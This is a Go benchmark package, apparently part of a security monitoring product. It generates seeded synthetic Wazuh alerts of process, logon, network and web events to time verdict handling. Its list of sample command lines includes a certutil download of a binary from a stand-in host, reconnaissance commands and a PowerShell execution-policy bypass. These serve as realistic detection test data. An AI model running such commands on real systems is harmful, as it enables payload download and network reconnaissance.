// Package bench measures the whole product: a seeded generator of native alerts, offered to a
// running node in a closed loop or at a rate, and the time until each has a durable verdict
// and durable audit records.
package bench

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"
)

// Generator makes native Wazuh alerts of about 2 KB: a mix of process creations, failed and
// successful logons, network signatures and web requests over a population of hosts and
// accounts, of which about a third repeat an activity of the same hour. The same seed gives
// the same bytes. It is not safe for concurrent use.
type Generator struct {
	// Level, when it is not 0, is the level of the rule in every alert.
	Level int

	rng   *rand.Rand
	start time.Time
	n     int
	buf   []byte
	// recent holds the seeds of activities that may be repeated.
	recent []activity
}

type activity struct{ kind, host, user, variant int }

// NewGenerator returns a generator whose alerts begin at start and follow each other by a
// few milliseconds.
func NewGenerator(seed uint64, start time.Time) *Generator {
	return &Generator{rng: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), start: start.UTC()}
}

const (
	population  = 400 // hosts and accounts
	repeatShare = 0.33
	keepRecent  = 256
)

// Next returns the next alert. The bytes are the caller's.
func (g *Generator) Next() []byte {
	a := activity{g.rng.IntN(6), g.rng.IntN(population), g.rng.IntN(population), g.rng.IntN(5000)}
	if len(g.recent) > 0 && g.rng.Float64() < repeatShare {
		a = g.recent[g.rng.IntN(len(g.recent))]
	} else if len(g.recent) < keepRecent {
		g.recent = append(g.recent, a)
	} else {
		g.recent[g.rng.IntN(keepRecent)] = a
	}
	at := g.start.Add(time.Duration(g.n) * 3 * time.Millisecond)
	g.n++
	g.buf = g.buf[:0]
	switch a.kind {
	case 0, 1:
		g.process(a, at)
	case 2:
		g.logon(a, at, "4625")
	case 3:
		g.logon(a, at, "4624")
	case 4:
		g.network(a, at)
	default:
		g.web(a, at)
	}
	return append([]byte(nil), g.buf...)
}

func (g *Generator) add(format string, args ...any) { g.buf = fmt.Appendf(g.buf, format, args...) }

func host(n int) string { return "ws-" + strconv.Itoa(1000+n) }

func address(n int) string { return fmt.Sprintf("10.%d.%d.%d", 20+n/200, n%200, 10+n%90) }

func (g *Generator) head(a activity, at time.Time) {
	g.add(`{"_index":"wazuh-alerts-4.x-%s","_id":"b%016x","_source":{"input":{"type":"log"},"agent":{"ip":"%s","name":"%s","id":"%03d"},"manager":{"name":"manager-1"},`,
		at.Format("2006.01.02"), uint64(g.n)<<20|uint64(g.rng.Uint32N(1<<20)), address(a.host), host(a.host), a.host)
}

func (g *Generator) tail(at time.Time, id string, level int, description, groups, mitre string) {
	if g.Level != 0 {
		level = g.Level
	}
	g.add(`"rule":{"firedtimes":%d,"mail":false,"level":%d,"description":%q,"groups":[%s],"mitre":%s,"id":%q},"location":"EventChannel","decoder":{"name":"windows_eventchannel"},"id":"%d.%d","timestamp":"%s"}}`,
		1+g.rng.IntN(9), level, description, groups, mitre, id, at.Unix(), g.rng.Uint32(), at.Format("2006-01-02T15:04:05.000-0700"))
}

var commands = []string{
	`powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\\\Ops\\\\inventory-%d.ps1`,
	`cmd.exe /c whoami /all > C:\\\\Temp\\\\out-%d.txt`,
	`net.exe user /domain report%d`,
	`C:\\\\Windows\\\\System32\\\\schtasks.exe /query /fo csv /tn Task%d`,
	`certutil.exe -urlcache -split -f http://files.example.net/pkg/%d.bin C:\\\\Users\\\\Public\\\\p.bin`,
	`C:\\\\Program Files\\\\Backup\\\\agent.exe --job %d --incremental`,
	`rundll32.exe shell32.dll,Control_RunDLL panel%d.cpl`,
	`reg.exe query HKLM\\\\Software\\\\Example\\\\Inventory%d`,
}

func (g *Generator) process(a activity, at time.Time) {
	g.head(a, at)
	command := fmt.Sprintf(commands[a.variant%len(commands)], a.variant)
	g.add(`"data":{"win":{"eventdata":{"originalFileName":"Cmd.Exe","image":"C:\\\\Windows\\\\System32\\\\cmd.exe","product":"Microsoft Windows Operating System",`+
		`"parentProcessGuid":"{%08x-0000-0000-0000-000000000001}","description":"Windows Command Processor","logonGuid":"{%08x-1111-0000-0000-000000000000}",`+
		`"parentCommandLine":"C:\\\\Windows\\\\explorer.exe","processGuid":"{%08x-0000-0000-0000-000000000002}","logonId":"0x%x","parentProcessId":"%d","processId":"%d",`+
		`"currentDirectory":"C:\\\\Users\\\\user%d\\\\","utcTime":"%s","hashes":"SHA256=%064x,IMPHASH=%032x","parentImage":"C:\\\\Windows\\\\explorer.exe",`+
		`"company":"Microsoft Corporation","commandLine":"%s","integrityLevel":"Medium","fileVersion":"10.0.1","user":"EXAMPLE\\\\user%d","terminalSessionId":"1","parentUser":"EXAMPLE\\\\user%d"},`,
		g.rng.Uint32(), g.rng.Uint32(), g.rng.Uint32(), 0x10000+g.rng.Uint32N(1<<20), 1000+g.rng.IntN(9000), 1000+g.rng.IntN(9000),
		a.user, at.Format("2006-01-02 15:04:05.000"), g.rng.Uint64(), g.rng.Uint64(), command, a.user, a.user)
	g.add(`"system":{"eventID":"1","keywords":"0x8000000000000000","providerGuid":"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}","level":"4","channel":"Microsoft-Windows-Sysmon/Operational","opcode":"0","version":"5",`+
		`"systemTime":"%s","eventRecordID":"%d","threadID":"4448","computer":"%s.example.com","task":"1","processID":"3744","severityValue":"INFORMATION","providerName":"Microsoft-Windows-Sysmon"}}},`,
		at.Format(time.RFC3339Nano), g.n, host(a.host))
	g.tail(at, "92052", 4, "Windows command prompt started by an abnormal process", `"sysmon","windows"`, `{"technique":["Windows Command Shell"],"id":["T1059.003"],"tactic":["Execution"]}`)
}

func (g *Generator) logon(a activity, at time.Time, event string) {
	g.head(a, at)
	g.add(`"data":{"win":{"eventdata":{"subjectLogonId":"0x0","ipAddress":"%s","authenticationPackageName":"NTLM","workstationName":"%s","subStatus":"0xc000006a","logonProcessName":"NtLmSsp",`+
		`"targetUserName":"user%d","targetDomainName":"EXAMPLE","keyLength":"128","subjectUserSid":"S-1-0-0","processId":"0x0","ipPort":"%d","failureReason":"%%%%2313","targetUserSid":"S-1-5-21-1-2-3-%d","logonType":"3","status":"0xc000006d","targetLogonId":"0x%x"},`,
		address(a.variant%population), host(a.variant%population), a.user, 40000+g.rng.IntN(20000), 1000+a.user, 0x20000+g.rng.Uint32N(1<<22))
	g.add(`"system":{"eventID":"%s","keywords":"0x8010000000000000","providerGuid":"{54849625-5478-4994-a5ba-3e3b0328c30d}","level":"0","channel":"Security","opcode":"0","message":"An account logon was audited.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\r\nLogon Type:\t\t\t3\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\t%s\r\n\tSource Network Address:\t%s\r\n","version":"0",`+
		`"systemTime":"%s","eventRecordID":"%d","threadID":"2336","computer":"%s.example.com","task":"12544","processID":"636","severityValue":"AUDIT","providerName":"Microsoft-Windows-Security-Auditing"}}},`,
		event, host(a.variant%population), address(a.variant%population), at.Format(time.RFC3339Nano), g.n, host(a.host))
	g.tail(at, "6"+event, 5, "Logon "+event, `"windows","windows_security"`, `{"technique":["Valid Accounts"],"id":["T1078"],"tactic":["Initial Access"]}`)
}

func (g *Generator) network(a activity, at time.Time) {
	g.head(a, at)
	g.add(`"data":{"in_iface":"eth0","event_type":"alert","src_ip":"%s","src_port":"%d","dest_ip":"203.0.113.%d","dest_port":"443","proto":"TCP","flow_id":"%d","app_proto":"tls","timestamp":"%s",`+
		`"alert":{"severity":"3","signature_id":"%d","rev":"4","gid":"1","signature":"POLICY example signature %d","action":"allowed","category":"Potential Corporate Privacy Violation"},`+
		`"flow":{"pkts_toserver":"%d","bytes_toserver":"%d","start":"%s"},"tls":{"sni":"svc%d.example.org","version":"TLS 1.3"}},`,
		address(a.host), 40000+g.rng.IntN(20000), a.variant%250, g.rng.Uint64(), at.Format("2006-01-02T15:04:05.000000-0700"),
		2000000+a.variant%40, a.variant%40, g.rng.IntN(90), g.rng.IntN(90000), at.Format("2006-01-02T15:04:05.000000-0700"), a.variant%300)
	g.tail(at, "86601", 3, "Suricata: Alert - POLICY example signature", `"ids","suricata"`, `{"technique":[],"id":[],"tactic":[]}`)
}

func (g *Generator) web(a activity, at time.Time) {
	g.head(a, at)
	g.add(`"full_log":"198.51.100.%d - - [%s] \"GET /shop/item?id=%d&ref=campaign HTTP/1.1\" 404 512 \"-\" \"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/141.0\"",`+
		`"data":{"protocol":"GET","srcip":"198.51.100.%d","id":"404","url":"/shop/item?id=%d&ref=campaign"},`,
		a.variant%250, at.Format("02/Jan/2006:15:04:05 -0700"), a.variant, a.variant%250, a.variant)
	g.tail(at, "31101", 5, "Web server 400 error code.", `"web","accesslog"`, `{"technique":[],"id":[],"tactic":[]}`)
}
